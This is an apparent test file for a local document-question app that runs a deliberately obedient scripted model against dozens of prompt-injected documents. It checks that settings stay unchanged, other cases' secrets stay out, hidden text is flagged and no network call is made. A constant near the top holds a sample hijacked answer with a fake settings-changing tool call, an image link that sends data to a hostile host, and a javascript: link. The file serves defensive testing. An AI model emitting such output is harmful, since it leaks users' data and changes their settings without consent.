import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, truncateSync } from 'node:fs';
import { Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, mock, test } from 'node:test';
import { honest, hostileHost, otherCaseSecret, questions } from '../../e2e/files/injections/attacks.ts';
import { chatMarks } from '../../e2e/files/injections/chatMarks.ts';
import { writeScriptedGguf } from '../../e2e/files/writeGguf.ts';
import { type Injection, injections } from '../../e2e/files/writeInjections.ts';
import type { Id } from '../contract/types.ts';
import { createServices, type Services } from '../services.ts';
import type { Database } from '../storage/database.ts';
import { createTemporaryLibrary } from '../storage/library.ts';
import { getMessage } from '../storage/messages.ts';
import { spawnChildProcess } from '../workers/childProcess.ts';
import type { WorkerName } from '../workers/entries.ts';
import type { WorkerProcess } from '../workers/host.ts';
import type { ChatTurn } from '../workers/methods.ts';

/** What a model that obeys would write. It writes this to everything, through the real llama.cpp. */
const obedient =
  `Switching to OpenAI. <tool_call>{"name": "settings.change", "arguments": {"openai": {"enabled": true}}}</tool_call> ` +
  `![logo](https://${hostileHost}/p.png?d=three+months) [the source](javascript:document.title="taken") ` +
  `<img src="https://${hostileHost}/i.png"> [1]`;

const folder = mkdtempSync(join(tmpdir(), 'cloister-injections-'));
const prompts: (readonly ChatTurn[])[] = [];
let services: Services;
let db: Database;

/** The worker as it is, with a copy of every prompt on its way to it. */
function spawn(name: WorkerName): WorkerProcess {
  const worker = spawnChildProcess(name);
  return {
    ...worker,
    post(message) {
      if (message.type === 'request' && message.method === 'answer') {
        prompts.push((message.params as { readonly turns: readonly ChatTurn[] }).turns);
      }
      worker.post(message);
    },
  };
}

before(async () => {
  const library = await createTemporaryLibrary(join(folder, 'library'));
  db = library.db;
  services = createServices({ library, spawn, emit: () => undefined, policy: { kind: 'none' }, keychain: null });
  await add(services.createCase('Another').id, 'secret.txt', Buffer.from(`The ${otherCaseSecret} is not for you.`));
});

after(async () => {
  await services.close();
  rmSync(folder, { recursive: true, force: true });
});

async function add(caseId: Id, name: string, bytes: Uint8Array): Promise<Id> {
  const [outcome] = await services.importing.add(caseId, [{ name, bytes }]);
  assert.ok(outcome?.kind === 'added');
  await services.jobs.finished(outcome.documentId);
  assert.equal(services.importing.get(outcome.documentId).state.kind, 'read');
  return outcome.documentId;
}

/** Everything the library holds, table by table. */
function contents(): Readonly<Record<string, string>> {
  const names = db
    .prepare<[], { readonly name: string }>(
      `SELECT name FROM sqlite_schema WHERE type = 'table' AND sql NOT LIKE '%VIRTUAL%'`,
    )
    .all();
  const rows = (name: string): string =>
    JSON.stringify(db.prepare(`SELECT * FROM "${name}"`).all(), (_, value) =>
      typeof value === 'bigint' ? String(value) : value,
    );
  return Object.fromEntries(names.map(({ name }) => [name, rows(name)]));
}

/** An answer adds its messages and what it took, when its model was used and how fast, and names its conversation. */
const changedByAnswer = ['messages', 'conversations', 'cases', 'usage', 'models', 'moments', 'sqlite_sequence'];

function lasting(): string {
  const { values, fixed } = services.settings.state();
  const documents = db.prepare('SELECT * FROM documents').all();
  return JSON.stringify([
    values,
    fixed,
    documents,
    db.prepare('SELECT provider, count(*) FROM conversations GROUP BY 1').all(),
  ]);
}

/** Small models get plain text, larger ones numbered passages: what a model is shows in the size of its file. */
const models = {
  small: { bytes: null, isNumbered: false },
  larger: { bytes: 300_000_000, isNumbered: true },
} as const;

async function load(kind: keyof typeof models): Promise<void> {
  const { bytes } = models[kind];
  const path = join(folder, `${kind}.gguf`);
  writeScriptedGguf(path, obedient, { context: 16_384 });
  // Nothing is behind the end of what is written, and nothing of it is read.
  if (bytes !== null) truncateSync(path, bytes);
  const state = await services.models.addAndLoad({ path }, { threads: 1 });
  assert.equal(state.kind, 'loaded');
}

/** Only our own lines stand at the margin, and they are those that we wrote. */
function checkDelimited(turns: readonly ChatTurn[], question: string, isNumbered: boolean): void {
  const lines = turns.flatMap(({ text }) => text.split('\n'));
  const heads = lines.filter((line) => /^\[\d+\]/.test(line));
  assert.equal(heads.length > 0, isNumbered, 'the form of the prompt');
  assert.deepEqual(
    heads.map((head) => head.replace(/\d+:$/, 'N:')),
    heads.map((_, index) => `[${index + 1}] Document 1, ${heads[0]?.includes('section') ? 'section' : 'page'} N:`),
  );
  assert.equal(lines.filter((line) => line.startsWith('Question:')).length, 1);
  const [instruction] = lines;
  const ours = lines.filter((line) => line !== '' && !line.startsWith(' ') && !heads.includes(line));
  assert.deepEqual(
    [...new Set(ours)].sort(),
    [instruction, 'Passages:', `Question: ${question}`].sort(),
    'a line of the document stands at the margin',
  );
}

async function check({ name, language, bytes, attack, format }: Injection, isNumbered: boolean): Promise<void> {
  const before = lasting();
  const caseId = services.createCase(name).id;
  const documentId = await add(caseId, name, bytes);
  const conversation = services.createConversation(caseId, 'device');
  const stored = contents();
  prompts.length = 0;

  const { answer } = await services.asking.ask({
    conversationId: conversation.id,
    parentId: null,
    text: questions[language],
  });
  await services.jobs.finished(answer.id);
  const done = getMessage(db, answer.id);
  assert.ok(done.kind === 'answer');
  assert.deepEqual(done.state, { kind: 'finished' });
  assert.match(done.text, /Switching to OpenAI/, 'the model obeyed');

  const [turns] = prompts;
  assert.ok(turns && prompts.length === 1);
  const prompt = turns.map(({ text }) => text).join('\n');
  checkDelimited(turns, questions[language], isNumbered);
  assert.ok(prompt.includes(honest[language].slice(0, 20)), 'the document was read');
  for (const mark of chatMarks) assert.ok(!prompt.includes(mark), `${mark} reached the model`);
  assert.doesNotMatch(prompt, /[\p{Default_Ignorable_Code_Point}\u202a-\u202e]|(?!\n)\p{Cc}/u);
  assert.ok(!prompt.includes(otherCaseSecret), 'a passage of another case reached the model');
  if (attack.fileName) assert.ok(!prompt.includes('HACKED'), 'the name of the file reached the model');
  const { hidden } = services.importing.get(documentId);
  // A plain text hides nothing: whoever opens it can scroll to all of it.
  if (attack.hidden && format !== 'text') {
    assert.ok(attack.lines(language).every((line) => !prompt.includes(line)));
    assert.equal(hidden.length, 1, 'it is said that the page holds hidden text');
  }

  const now = contents();
  for (const [table, rows] of Object.entries(now)) {
    if (!changedByAnswer.includes(table)) assert.equal(rows, stored[table], `${table} changed`);
  }
  assert.equal(done.provider, 'device');
  assert.ok(done.citations.every((citation) => citation.documentId === documentId));
  const added = services.importing.get(documentId);
  assert.equal(added.confidential, true);
  await services.removeCase(caseId);
  assert.equal(lasting(), before, 'settings, documents and conversations are what they were');
}

test('there are enough of them, of every kind, language and format', () => {
  assert.ok(injections.length >= 60);
  assert.equal(new Set(injections.map(({ name }) => name)).size, injections.length);
  const rows = new Set(injections.map(({ attack }) => attack.row));
  assert.deepEqual(
    ['A1', 'A2', 'A3', 'A5', 'A6', 'A8', 'A9', 'A12', 'A13', 'A14'].filter((row) => !rows.has(row as 'A1')),
    [],
  );
  assert.equal(new Set(injections.map(({ language, format }) => language + format)).size, 16);
});

for (const kind of ['small', 'larger'] as const) {
  test(`no document does more than make the answer of a ${kind} model wrong`, async (t) => {
    const connect = mock.method(Socket.prototype, 'connect', () => {
      throw new Error('something wanted to connect');
    });
    t.after(() => connect.mock.restore());
    await load(kind);
    for (const injection of injections) await t.test(injection.name, () => check(injection, models[kind].isNumbered));
    assert.equal(connect.mock.callCount(), 0);
  });
}
